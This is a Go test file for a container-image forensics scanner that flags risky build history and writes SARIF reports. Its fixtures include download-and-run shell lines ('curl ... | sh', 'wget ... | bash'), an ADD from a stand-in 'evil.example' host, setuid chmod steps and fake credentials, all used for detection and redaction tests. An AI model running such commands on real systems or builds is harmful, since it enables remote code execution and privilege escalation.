package history

import (
	"bytes"
	"encoding/json"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/ctrforensics/ctrforensics/internal/schemacheck"
)

func TestSeverity(t *testing.T) {
	cases := []struct {
		in      string
		want    Severity
		wantErr bool
	}{
		{"low", Low, false},
		{" Medium ", Medium, false},
		{"HIGH", High, false},
		{"critical", 0, true},
		{"", 0, true},
	}
	for _, tc := range cases {
		got, err := ParseSeverity(tc.in)
		if (err != nil) != tc.wantErr || got != tc.want {
			t.Errorf("ParseSeverity(%q) = %v, %v; want %v, err %v", tc.in, got, err, tc.want, tc.wantErr)
		}
		if err == nil && got.String() != strings.ToLower(strings.TrimSpace(tc.in)) {
			t.Errorf("%v.String() = %q", got, got.String())
		}
	}
	if s := Severity(7).String(); s != "Severity(7)" {
		t.Errorf("Severity(7).String() = %q", s)
	}
}

func TestRulesCatalog(t *testing.T) {
	rs := Rules()
	idRe := regexp.MustCompile(`^CTRF-IMG-\d{3}$`)
	seen := map[string]bool{}
	for i, r := range rs {
		switch {
		case !idRe.MatchString(r.ID):
			t.Errorf("bad ID %q", r.ID)
		case seen[r.ID]:
			t.Errorf("duplicate ID %q", r.ID)
		case i > 0 && rs[i-1].ID >= r.ID:
			t.Errorf("not sorted at %q", r.ID)
		case r.Title == "" || len(r.Help) < 40:
			t.Errorf("%s: missing title or help", r.ID)
		case r.Severity < Low || r.Severity > High:
			t.Errorf("%s: bad severity %d", r.ID, r.Severity)
		}
		seen[r.ID] = true
	}
	if len(rs) < 9 {
		t.Errorf("only %d rules", len(rs))
	}
	rs[0].Title = "changed"
	if Rules()[0].Title == "changed" {
		t.Error("Rules returns shared storage")
	}
}

func TestAtLeast(t *testing.T) {
	fs := []Finding{{Severity: Low}, {Severity: Medium}}
	cases := []struct {
		s    Severity
		want bool
	}{{Low, true}, {Medium, true}, {High, false}}
	for _, tc := range cases {
		if got := AtLeast(fs, tc.s); got != tc.want {
			t.Errorf("AtLeast(%v) = %v", tc.s, got)
		}
	}
	if AtLeast(nil, Low) {
		t.Error("AtLeast(nil) = true")
	}
}

// suspect is an image that triggers most rules.
func suspect() ocispec.Image {
	im := img(
		"/bin/sh -c #(nop) ADD file:0123 in / ",
		"/bin/sh -c #(nop)  ENV PATH=/tmp:/usr/bin",
		"RUN /bin/sh -c curl -fsSL http://x/i.sh | sh # buildkit",
		"/bin/sh -c chmod 4755 /usr/bin/find",
		"USER app",
		"USER root",
	)
	im.Config.Entrypoint = []string{"/tmp/x"}
	return im
}

func TestAnalyzeOrderAndShape(t *testing.T) {
	fs := Analyze(suspect(), nil)
	if len(fs) < 5 {
		t.Fatalf("too few findings:\n%s", dump(fs))
	}
	for i, f := range fs {
		if f.Title == "" || f.Reason == "" || strings.ContainsAny(f.Reason+f.Evidence, "\n\r") {
			t.Errorf("bad finding %+v", f)
		}
		if len(f.Evidence) > MaxEvidence || len(f.Reason) > MaxReason {
			t.Errorf("finding too long: %+v", f)
		}
		if i == 0 {
			continue
		}
		a, b := fs[i-1], f
		if a.Severity < b.Severity || (a.Severity == b.Severity && (a.History > b.History ||
			(a.History == b.History && a.Rule > b.Rule))) {
			t.Errorf("not sorted: %v before %v", a, b)
		}
	}
	want := "RUN pipes a download into a shell: curl -fsSL http://x/i.sh | sh"
	for _, f := range fs {
		if f.Rule == RuleRemoteExec && (f.Reason != want || f.History != 2) {
			t.Errorf("remote exec finding = %+v", f)
		}
	}
}

func TestSecretsNeverReported(t *testing.T) {
	secrets := []string{
		"hunter2-very-secret",
		"AKIAIOSFODNN7EXAMPLE",
		"ghp_0123456789abcdefghijklmnopqrstuvwxyzAB",
		"xoxb-1234567890-abcdefghij",
		"s3cr3t-build-arg",
		"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----",
	}
	im := img(
		"/bin/sh -c #(nop)  ENV DB_PASSWORD="+secrets[0]+" PATH=/tmp:/usr/bin",
		"ARG AWS_KEY="+secrets[1],
		"RUN |1 NPM_TOKEN="+secrets[4]+" /bin/sh -c curl -H 'Authorization: token "+secrets[2]+"' https://x/"+secrets[4]+" | sh # buildkit",
		"/bin/sh -c chmod 777 /x && echo "+secrets[3]+" > /tmp/slack",
		"/bin/sh -c echo '"+secrets[5]+"' > /root/.ssh/id && curl http://x | bash",
	)
	im.Config.Env = []string{"DB_PASSWORD=" + secrets[0], "LD_PRELOAD=/x/" + secrets[0]}
	im.Config.Cmd = []string{"/tmp/run", "--token", secrets[2]}
	im.Config.Labels = map[string]string{"k": secrets[1]}
	fs := Analyze(im, nil)
	t.Log("\n" + dump(fs))
	var sarif bytes.Buffer
	if err := WriteSARIF(&sarif, "suspect:latest", "test", fs); err != nil {
		t.Fatal(err)
	}
	for _, s := range secrets {
		for _, f := range fs {
			if strings.Contains(f.Reason, s) || strings.Contains(f.Evidence, s) {
				t.Errorf("secret %.12q... leaked in %+v", s, f)
			}
		}
		if strings.Contains(sarif.String(), s) || strings.Contains(sarif.String(), oneLine(s)) {
			t.Errorf("secret %.12q... leaked in SARIF", s)
		}
	}
	for _, rule := range []string{RuleSecretName, RuleSecretValue, RuleRemoteExec, RuleWorldWritable} {
		if !hasRule(fs, rule) {
			t.Errorf("%s not reported:\n%s", rule, dump(fs))
		}
	}
}

// TestOneLineAndClip pins the one escaping convention (forensic.EscapePath's)
// of findings, and clipping that never splits a rune or an escape.
func TestOneLineAndClip(t *testing.T) {
	cases := []struct {
		in, want string
		max      int
	}{
		{"a\nb\tc\r", `a\nb\tc\x0d`, 100},
		{"x\x00y\xff", `x\x00y\xff`, 100},
		{"é\u2028", `é\u{2028}`, 100},
		{`C:\dir`, `C:\\dir`, 100},
		{"ab\x01cdef", `ab...`, 8},
		{strings.Repeat("a", 10), "aaaa...", 7},
		{"ééé", "...", 4},
	}
	for _, tc := range cases {
		if got := clip(oneLine(tc.in), tc.max); got != tc.want {
			t.Errorf("clip(oneLine(%q)) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestParseStep(t *testing.T) {
	cases := []struct {
		createdBy, kind, body string
		args                  int
	}{
		{"/bin/sh -c #(nop)  ENV PATH=/tmp:/usr/bin", "ENV", "PATH=/tmp:/usr/bin", 0},
		{"/bin/sh -c curl -fsSL http://x/i.sh | sh", "RUN", "curl -fsSL http://x/i.sh | sh", 0},
		{"RUN /bin/sh -c wget -O- http://x | bash # buildkit", "RUN", "wget -O- http://x | bash", 0},
		{"ADD https://evil.example/x /usr/bin/x # buildkit", "ADD", "https://evil.example/x /usr/bin/x", 0},
		{"|1 ARG=v /bin/sh -c make", "RUN", "make", 1},
		{"RUN |2 A=1 B=2 /bin/bash -o pipefail -c make # buildkit", "RUN", "make", 2},
		{"COPY file:abc in /app", "COPY", "file:abc in /app", 0},
		{`ENTRYPOINT ["/tmp/x"]`, "ENTRYPOINT", `["/tmp/x"]`, 0},
		{"USER root", "USER", "root", 0},
		{"ARG TOKEN=x", "ARG", "TOKEN=x", 0},
		{`RUN ["/bin/sh","-c","make all"] # buildkit`, "RUN", "make all", 0},
		{"cmd /S /C echo hi", "RUN", "echo hi", 0},
		{"ko build ./cmd/app", "RUN", "ko build ./cmd/app", 0},
	}
	for _, tc := range cases {
		s := parseStep(0, ocispec.History{CreatedBy: tc.createdBy})
		if s.kind != tc.kind || s.body != tc.body || len(s.args) != tc.args {
			t.Errorf("parseStep(%q) = %q %q %v; want %q %q %d", tc.createdBy, s.kind, s.body, s.args, tc.kind, tc.body, tc.args)
		}
	}
}

func TestSARIF(t *testing.T) {
	for _, fs := range [][]Finding{nil, Analyze(suspect(), nil)} {
		var buf bytes.Buffer
		if err := WriteSARIF(&buf, "registry.example/app@sha256:abc", "1.2.3", fs); err != nil {
			t.Fatal(err)
		}
		checkSARIF(t, buf.Bytes(), fs)
		schemacheck.ValidateSARIF(t, buf.Bytes())
	}
	bad := []Finding{{Rule: "NOPE", Severity: High}}
	if err := WriteSARIF(&bytes.Buffer{}, "x", "1", bad); err == nil {
		t.Error("unknown rule accepted")
	}
}

type sarifDoc struct {
	Schema  string `json:"$schema"`
	Version string `json:"version"`
	Runs    []struct {
		Tool struct {
			Driver struct {
				Name, Version, InformationURI string
				Rules                         []struct {
					ID, Name             string
					ShortDescription     struct{ Text string }
					Help                 struct{ Text string }
					DefaultConfiguration struct{ Level string }
				}
			}
		}
		Results []struct {
			RuleID    string
			RuleIndex int
			Level     string
			Message   struct{ Text string }
			Locations []struct {
				PhysicalLocation struct {
					ArtifactLocation struct{ URI string }
					Region           struct{ StartLine int }
				}
				LogicalLocations []struct{ Name, FullyQualifiedName string }
			}
			Properties struct{ Severity string }
		}
	}
}

func checkSARIF(t *testing.T, raw []byte, fs []Finding) {
	t.Helper()
	var doc sarifDoc
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatalf("invalid JSON: %v", err)
	}
	if !strings.Contains(doc.Schema, "sarif-schema-2.1.0.json") || doc.Version != "2.1.0" || len(doc.Runs) != 1 {
		t.Fatalf("bad header: %q %q runs=%d", doc.Schema, doc.Version, len(doc.Runs))
	}
	if !strings.Contains(string(raw), `"results": [`) {
		t.Error("results is not an array")
	}
	d := doc.Runs[0].Tool.Driver
	if d.Name != "ctrforensics" || d.Version != "1.2.3" || d.InformationURI == "" || len(d.Rules) != len(Rules()) {
		t.Fatalf("bad driver: %+v", d)
	}
	levels := map[string]string{"high": "error", "medium": "warning", "low": "note"}
	for i, r := range d.Rules {
		want := Rules()[i]
		if r.ID != want.ID || r.Name == "" || r.ShortDescription.Text != want.Title || r.Help.Text != want.Help ||
			r.DefaultConfiguration.Level != levels[want.Severity.String()] {
			t.Errorf("rule %d = %+v", i, r)
		}
	}
	res := doc.Runs[0].Results
	if len(res) != len(fs) {
		t.Fatalf("%d results for %d findings", len(res), len(fs))
	}
	for i, r := range res {
		f := fs[i]
		loc := "config"
		if f.History >= 0 {
			loc = "history[" + strconv.Itoa(f.History) + "]"
		}
		ok := r.RuleID == f.Rule && d.Rules[r.RuleIndex].ID == r.RuleID && r.Level == levels[f.Severity.String()] &&
			r.Message.Text == f.Reason && r.Properties.Severity == f.Severity.String() && len(r.Locations) == 1 &&
			len(r.Locations[0].LogicalLocations) == 1 && r.Locations[0].LogicalLocations[0].Name == loc &&
			r.Locations[0].LogicalLocations[0].FullyQualifiedName == "registry.example/app@sha256:abc#"+loc
		if !ok {
			t.Errorf("result %d = %+v for finding %+v", i, r, f)
			continue
		}
		pl := r.Locations[0].PhysicalLocation
		if u, err := url.Parse(pl.ArtifactLocation.URI); err != nil || u.Scheme != "" || u.Path == "" || pl.Region.StartLine < 1 {
			t.Errorf("result %d: bad physical location %+v", i, pl)
		}
	}
}

func TestArtifactURI(t *testing.T) {
	cases := []struct{ in, want string }{
		{"alpine:3.19", "alpine%3A3.19"},
		{"registry.example/app@sha256:ab", "registry.example/app%40sha256%3Aab"},
		{"/abs/path", "abs/path"},
		{"", "image"},
	}
	for _, tc := range cases {
		got := artifactURI(tc.in)
		if u, err := url.Parse(got); got != tc.want || err != nil || u.Scheme != "" {
			t.Errorf("artifactURI(%q) = %q (%v), want %q", tc.in, got, err, tc.want)
		}
	}
}
